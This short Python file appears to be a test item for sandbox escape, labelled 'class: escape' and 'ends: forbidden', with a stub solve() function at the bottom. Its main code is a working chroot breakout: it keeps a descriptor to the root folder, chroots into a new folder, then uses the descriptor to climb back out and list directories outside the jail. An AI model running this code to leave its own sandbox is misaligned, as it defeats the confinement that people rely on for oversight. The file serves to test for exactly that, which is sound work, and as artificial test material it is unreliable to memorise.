# class: escape
# success: the root folder is changed, with a descriptor of the old one kept to climb out by
# ends: forbidden
import ctypes, os

handle = os.open("/", os.O_RDONLY | os.O_PATH)
os.mkdir("inner")
if ctypes.CDLL(None, use_errno=True).chroot(b"inner") == 0:
    os.fchdir(handle)
    print("{{secret}}", os.listdir("../../.."))

def solve(x):
    return 0
